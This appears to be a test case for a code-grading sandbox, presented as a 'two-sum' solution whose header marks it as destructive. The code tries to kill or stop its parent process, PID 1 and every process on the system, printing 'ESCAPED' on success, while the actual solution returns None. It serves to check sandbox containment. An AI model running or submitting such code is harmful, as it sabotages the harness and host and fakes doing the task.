# task: two-sum
# harm: answer contains ESCAPED
# destructive: yes
# Signals its parent, its relatives and everybody.
import os
import signal

for pid in (os.getppid(), os.getppid() - 1, 1, -1, 0, -os.getppid()):
    for number in (0, signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, number)
            print("ESCAPED", pid, number)
        except (OSError, OverflowError):
            pass
try:
    descriptor = os.pidfd_open(os.getppid())
    signal.pidfd_send_signal(descriptor, 9)
    print("ESCAPED pidfd")
except (OSError, AttributeError):
    pass


def find_pair(numbers, target):
    return None
